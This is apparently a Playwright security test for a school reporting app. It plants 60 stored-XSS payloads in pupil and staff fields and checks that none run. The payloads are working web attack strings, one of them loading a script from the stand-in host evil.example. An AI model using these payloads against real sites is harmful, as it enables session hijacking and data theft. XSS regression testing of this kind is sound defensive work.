// Stored-XSS corpus in a real Chromium: 60 payloads go into every free-text field of a
// report (what, when, who, name, contact), a pupil's follow-up message, a staff reply and
// an internal note; the case, the hand-off summary, the queue and the pupil's
// conversation are then opened as staff and as the pupil. Any dialog, any element or
// global a payload would create, counts as an execution; the test wants 0, and wants each
// payload shown back as the text the pupil typed.
//
//   BASE_URL=http://127.0.0.1:PORT DEMO_CODE_BIN=target/debug/confide \
//   STAFF_LOGIN=officer@demo.confide.example:demo-officer-2026 node tests/browser/xss.mjs
import { freshCode } from './codes.mjs'
import { chromium } from 'playwright-core'

const BASE = new URL(process.env.BASE_URL)
const urlOf = (path) => new URL(path, BASE).toString()
const [EMAIL, PASSWORD] = (process.env.STAFF_LOGIN || 'officer@demo.confide.example:demo-officer-2026').split(':')
const CHROMIUM_ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run',
  '--disable-background-networking', '--disable-component-update', '--disable-sync']

// {i} becomes the payload's number: an element with id xss{i} (or data-xss) in the page
// means the markup was not escaped, whether or not a script ran.
const TEMPLATES = [
  '<script>window.__xss={i};alert({i})</script>',
  '<img src=x onerror="window.__xss={i};alert({i})" id=xss{i}>',
  '"><svg onload=alert({i}) id=xss{i}>',
  "'><iframe src=\"javascript:alert({i})\" id=xss{i}></iframe>",
  '<a id=xss{i} href="javascript:alert({i})">link</a>',
  '</textarea><script>alert({i})</script>',
  '<details open ontoggle=alert({i}) id=xss{i}>',
  '<body onload=alert({i})>',
  "{{constructor.constructor('alert({i})')()}}",
  'javascript:alert({i})',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert({i}) id=xss{i}>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert({i})">',
  '<object data="javascript:alert({i})" id=xss{i}></object>',
  '<embed src=javascript:alert({i}) id=xss{i}>',
  '<input autofocus onfocus=alert({i}) id=xss{i}>',
  '<video><source onerror="alert({i})" id=xss{i}></video>',
  '<marquee onstart=alert({i}) id=xss{i}>x</marquee>',
  '<div style="background:url(javascript:alert({i}))" id=xss{i}>x</div>',
  '%3Cscript%3Ealert({i})%3C/script%3E',
  '&lt;script&gt;alert({i})&lt;/script&gt;',
  '<scr<script>ipt>alert({i})</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x{i}.js></SCRIPT>',
  '<svg><script>alert({i})</script></svg>',
  '<form id=xss{i} action=javascript:alert({i})><button>go</button></form>',
  '<base href="javascript:alert({i})//">',
  '\u2028<script>alert({i})</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert({i}) id=xss{i}>">',
  '<template><img src=x onerror=alert({i})></template><b data-xss={i}>b</b>',
  '<x onclick=alert({i}) id=xss{i}>click</x>',
  '"onmouseover="alert({i})',
  "' onmouseover='alert({i})",
  '<img src=x:alert(alt) onerror=eval(src) alt={i} id=xss{i}>',
  '<svg/onload=alert({i}) id=xss{i}>',
  '<iframe srcdoc="<script>parent.alert({i})</script>" id=xss{i}></iframe>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" id=xss{i}>x</a>',
  '<img src=1 onerror=alert(String.fromCharCode(88,83,83)) id=xss{i}>',
  '[click](javascript:alert({i}))',
  '![img](javascript:alert({i}))',
  '<textarea onfocus=alert({i}) autofocus id=xss{i}></textarea>',
  '<select onfocus=alert({i}) autofocus id=xss{i}></select>',
  '<audio src=x onerror=alert({i}) id=xss{i}></audio>',
  '<img srcset=",,,,,x" onerror=alert({i}) id=xss{i}>',
  '<svg><animate onbegin=alert({i}) attributeName=x dur=1s id=xss{i}></svg>',
  '<style>*{background:url("javascript:alert({i})")}</style>',
  '<ScRiPt>alert({i})</sCrIpT>',
  '<!--<img src="--><img src=x onerror=alert({i}) id=xss{i}//">',
  '<img """><script>alert({i})</script>">',
  '<a href=" &#14;  javascript:alert({i})" id=xss{i}>x</a>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;({i}) id=xss{i}>',
  '<svg><foreignObject><iframe src=javascript:alert({i}) id=xss{i}></iframe></foreignObject></svg>',
  '<div id=xss{i} contenteditable onfocus=alert({i}) autofocus>x</div>',
  '<link rel=stylesheet href=javascript:alert({i})>',
  '<table background="javascript:alert({i})" id=xss{i}></table>',
  '<button formaction=javascript:alert({i}) id=xss{i}>x</button>',
  '<isindex type=image src=1 onerror=alert({i})>',
  '<xmp><img src=x onerror=alert({i})></xmp><i data-xss={i}>i</i>',
  '<plaintext><b data-xss={i}>',
  '</title><script>alert({i})</script>',
  '</style><script>alert({i})</script>',
  '${alert({i})}<b data-xss={i}></b>',
]
const PAYLOADS = TEMPLATES.map((t, i) => t.replaceAll('{i}', String(i + 1)))
if (PAYLOADS.length < 50) throw new Error('the corpus needs at least 50 payloads')

const results = { executions: [], problems: [] }

// What a page shows must not have run or made anything from a payload.
async function inspect (page, where) {
  await page.waitForTimeout(150)
  const found = await page.evaluate(() => ({
    global: typeof window.__xss !== 'undefined' ? String(window.__xss) : null,
    elements: [...document.querySelectorAll('[id^="xss"], [data-xss]')].map((e) => e.outerHTML.slice(0, 80)),
    jsLinks: [...document.querySelectorAll('a[href^="javascript:" i], iframe, object, embed, base')].map((e) => e.outerHTML.slice(0, 80)),
  }))
  if (found.global) results.executions.push(`${where}: window.__xss = ${found.global}`)
  for (const e of found.elements) results.executions.push(`${where}: payload markup became an element: ${e}`)
  for (const e of found.jsLinks) results.executions.push(`${where}: dangerous element in page: ${e}`)
}

function watch (page, where) {
  page.on('dialog', async (dialog) => {
    results.executions.push(`${where()}: a dialog opened (${dialog.type()} "${dialog.message()}")`)
    await dialog.dismiss().catch(() => {})
  })
}

const browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH || '/usr/bin/chromium', args: CHROMIUM_ARGS })
try {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } })
  // Nothing leaves the site (an evil.example script would otherwise be tried).
  await context.route('**/*', (route) => new URL(route.request().url()).host === BASE.host ? route.fallback() : route.abort())
  const pupil = await context.newPage()
  let where = 'pupil'
  watch(pupil, () => where)

  // Six reports of ten payloads each, every payload in every field that holds it.
  const codes = []
  for (let start = 0; start < PAYLOADS.length; start += 10) {
    const chunk = PAYLOADS.slice(start, start + 10)
    const fit = (max) => { let s = ''; for (const p of chunk) { if ((s + p + '\n').length > max) break; s += p + '\n' } return s }
    where = `report ${start / 10 + 1} form`
    await pupil.goto(urlOf('/s/oakfield/report'))
    await pupil.locator('input[name="category"][value="bullying"]').check()
    await pupil.locator('input[name="location"][value="toilets"]').check()
    await pupil.locator('input[name="happening_now"][value="no"]').check()
    await pupil.locator('input[name="about"][value="no"]').check()
    await pupil.locator('#what').fill(`XSS corpus ${start}\n` + chunk.join('\n'))
    for (const [field, max] of [['when', 500], ['who', 2000], ['name', 200], ['contact', 500]]) {
      const box = pupil.locator(`#${field}`)
      if (await box.count()) await box.fill(fit(max))
    }
    await pupil.getByRole('button', { name: 'Send report' }).click()
    await pupil.waitForLoadState()
    where = `report ${start / 10 + 1} receipt`
    const code = (await pupil.locator('.confide-receipt-code span').allTextContents()).map((g) => g.trim()).join(' ')
    if (!code) { results.problems.push(`report ${start}: no receipt code`); continue }
    await inspect(pupil, where)
    codes.push(code)
    // The pupil writes again, with every payload of this report.
    where = `report ${start / 10 + 1} conversation`
    await pupil.goto(urlOf('/followup'))
    await pupil.locator('#code').fill(code)
    await pupil.getByRole('button', { name: 'Continue' }).click()
    await pupil.locator('#message').fill(chunk.join('\n'))
    await pupil.getByRole('button', { name: 'Send', exact: true }).click()
    await pupil.waitForLoadState()
    await inspect(pupil, where)
  }

  // Staff: sign in, open each case, reply and note with the payloads, then the hand-off.
  const staff = await context.newPage()
  let staffWhere = 'staff sign-in'
  watch(staff, () => staffWhere)
  await staff.goto(urlOf('/staff/login'))
  await staff.locator('#email').fill(EMAIL)
  await staff.locator('#password').fill(PASSWORD)
  await staff.getByRole('button', { name: 'Sign in' }).click()
  await staff.waitForURL(/\/staff\/login\/code$/)
  await staff.locator('#code').fill(await freshCode(EMAIL))
  await staff.getByRole('button', { name: 'Continue' }).click()
  await staff.waitForURL(/\/staff$/)
  staffWhere = 'queue'
  await inspect(staff, staffWhere)
  const links = await staff.locator('a[href^="/staff/reports/"]').evaluateAll((as) => as.map((a) => a.getAttribute('href')))
  let opened = 0
  for (const href of links) {
    staffWhere = `case ${href}`
    await staff.goto(urlOf(href))
    const text = await staff.locator('main').innerText()
    const m = text.match(/XSS corpus (\d+)/)
    if (!m) continue
    opened++
    const chunk = PAYLOADS.slice(Number(m[1]), Number(m[1]) + 10)
    for (const p of chunk.slice(0, 3)) {
      if (!text.includes(p.trim())) results.problems.push(`${staffWhere}: payload not shown as text: ${p}`)
    }
    await inspect(staff, staffWhere)
    await staff.locator('#reply').fill(chunk.join('\n'))
    await staff.getByRole('button', { name: 'Send reply' }).click()
    await staff.waitForLoadState()
    await staff.locator('#note').fill(chunk.join('\n'))
    await staff.getByRole('button', { name: 'Save note' }).click()
    await staff.waitForLoadState()
    staffWhere = `case ${href} after reply and note`
    await inspect(staff, staffWhere)
    staffWhere = `hand-off ${href}`
    await staff.goto(urlOf(`${href}/handoff`))
    await staff.getByRole('button', { name: 'Make the hand-off summary' }).click()
    await staff.waitForLoadState()
    await inspect(staff, staffWhere)
  }
  if (opened < codes.length) results.problems.push(`only ${opened} of ${codes.length} corpus reports reached the officer's queue`)

  // The pupil reads the staff replies carrying the payloads.
  for (const code of codes) {
    where = 'conversation with the replies'
    await pupil.goto(urlOf('/followup'))
    await pupil.locator('#code').fill(code)
    await pupil.getByRole('button', { name: 'Continue' }).click()
    await pupil.waitForLoadState()
    await inspect(pupil, where)
  }
  staffWhere = 'figures'
  await staff.goto(urlOf('/staff/insights'))
  await inspect(staff, staffWhere)
  console.log(`xss: ${PAYLOADS.length} payloads in ${codes.length} reports, ${opened} cases opened by staff`)
} catch (err) {
  results.problems.push(`the corpus run broke (pupil at ${where}, staff at ${staffWhere}): ${err.message.split("\n")[0]}`)
} finally {
  await browser.close()
}
for (const e of results.executions) console.log(`EXECUTED ${e}`)
for (const p of results.problems) console.log(`PROBLEM  ${p}`)
console.log(`xss: ${results.executions.length} executions, ${results.problems.length} problems`)
process.exit(results.executions.length || results.problems.length ? 1 : 0)
